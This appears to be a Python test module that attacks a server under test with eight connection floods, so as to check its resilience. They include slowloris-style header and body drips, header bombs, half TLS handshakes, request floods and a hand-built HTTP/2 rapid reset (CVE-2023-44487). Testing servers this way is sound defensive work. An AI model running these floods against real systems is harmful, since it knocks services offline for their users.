"""Eight ways to keep a server busy with many connections.

`python -m tests.faults.floods JSON` is the attacker, in a process of its own: `Attack` says what it does, and it
prints how many connections it had at the same time. It imports nothing of ours, to begin at once.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import resource
import ssl
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass

Speak = Callable[["Connection"], Awaitable[None]]
_DRIP = 0.5  # seconds between two bytes of a slow client
_H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HALF_HELLO = bytes.fromhex("1603010200010001fc0303")  # a TLS record that promises more
_STREAMS = 100
_AT_ONCE = 100  # connections that are being made
_OPENING = 20.0  # seconds for all of them


@dataclass
class Connection:
    """One of the attacker's. With a good token and a good certificate, so that nothing stops it early."""

    number: int
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    host: str
    token: str

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    def head(self, start: str, *lines: str, token: str = "") -> bytes:
        credentials = f"authorization: Bearer {token or self.token}"
        return "\r\n".join([f"{start} HTTP/1.1", f"host: {self.host}", credentials, *lines, ""]).encode()


@dataclass(frozen=True)
class Flood:
    name: str
    speak: Speak
    tls: bool = True
    alpn: str = "http/1.1"


async def _silent(connection: Connection) -> None:
    await asyncio.Event().wait()


async def _half_a_handshake(connection: Connection) -> None:
    if connection.number % 2:
        await connection.send(_HALF_HELLO)
    await asyncio.Event().wait()


async def _header_drip(connection: Connection) -> None:
    await connection.send(connection.head("GET /orders/1"))
    async for number in _drips():
        await connection.send(f"x-{number}: a\r\n".encode())


async def _body_drip(connection: Connection) -> None:
    await connection.send(connection.head("POST /orders/1", "content-length: 1000000") + b"\r\n")
    async for _ in _drips():
        await connection.send(b"a")


async def _slow_reader(connection: Connection) -> None:
    """Asks for 5 MB and takes none of it: the stream reader stops at its limit."""
    await connection.send(connection.head("GET /orders/1?size=5000000") + b"\r\n")
    await asyncio.Event().wait()


async def _header_bomb(connection: Connection) -> None:
    """In turn: too many, too long in all, one too long, none that ever ends."""
    bombs = (
        "".join(f"x-{n}: a\r\n" for n in range(500)),
        "".join(f"x-{n}: {'a' * 4000}\r\n" for n in range(50)),
        f"x-long: {'a' * 200_000}\r\n",
        "a" * 200_000,
    )
    await connection.send(connection.head("GET /orders/1") + bombs[connection.number % 4].encode() + b"\r\n")
    await connection.reader.read()


async def _request_flood(connection: Connection) -> None:
    """As fast as it is answered, and never with a good token."""
    while True:
        await connection.send(connection.head("GET /orders/2", token="x.y.z") + b"\r\n")
        if not await connection.reader.read(65536):
            return


async def _rapid_reset(connection: Connection) -> None:
    """HTTP/2: ask, and take it back at once (CVE-2023-44487)."""
    authority = connection.host.encode()
    block = b"\x82\x87\x84\x41" + bytes([len(authority)]) + authority  # GET https / :authority (RFC 7541 Appendix A)
    await connection.send(_H2_PREFACE + _frame(4, 0, 0, b""))
    for stream in range(1, 2 * _STREAMS, 2):
        await connection.send(_frame(1, 5, stream, block) + _frame(3, 0, stream, (8).to_bytes(4)))
    while await connection.reader.read(65536):
        pass


FLOODS = (
    Flood("half a handshake", _half_a_handshake, tls=False),
    Flood("silence after the handshake", _silent),
    Flood("headers that drip", _header_drip),
    Flood("a body that drips", _body_drip),
    Flood("an answer that nobody takes", _slow_reader),
    Flood("header bombs", _header_bomb),
    Flood("a flood of requests", _request_flood),
    Flood("HTTP/2 rapid reset", _rapid_reset, alpn="h2"),
)


async def _drips() -> AsyncIterator[int]:
    for number in itertools.count():
        await asyncio.sleep(_DRIP)
        yield number


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


@dataclass(frozen=True)
class Attack:
    """One flood: which of FLOODS, at whom, with what, how many, and how long they stay."""

    flood: int
    address: str
    port: int
    host: str
    ca_file: str
    cert_file: str
    key_file: str
    token: str
    count: int
    hold: float  # seconds

    def tls(self, alpn: str) -> ssl.SSLContext:
        context = ssl.create_default_context(cafile=self.ca_file)
        context.load_cert_chain(self.cert_file, self.key_file)
        context.set_alpn_protocols([alpn])
        return context


async def run(attack: Attack) -> int:
    """How many connections were open at the same time, at most."""
    flood = FLOODS[attack.flood]
    tls, name = (attack.tls(flood.alpn), attack.host) if flood.tls else (None, None)
    gate, attempted, present, peak = asyncio.Semaphore(_AT_ONCE), 0, 0, 0

    async def one(number: int) -> None:
        nonlocal attempted, present, peak
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            async with gate:
                try:
                    reader, writer = await asyncio.open_connection(
                        attack.address, attack.port, ssl=tls, server_hostname=name
                    )
                finally:
                    attempted += 1  # the door may be full
            present += 1
            peak = max(peak, present)
            try:
                await flood.speak(Connection(number, reader, writer, attack.host, attack.token))
            finally:
                present -= 1
                writer.transport.abort()

    tasks = [asyncio.create_task(one(number)) for number in range(attack.count)]
    end = time.monotonic() + _OPENING
    while attempted < attack.count and time.monotonic() < end:
        await asyncio.sleep(0.1)
    await asyncio.sleep(attack.hold)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return peak


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    print(asyncio.run(run(Attack(**json.loads(sys.argv[1])))))
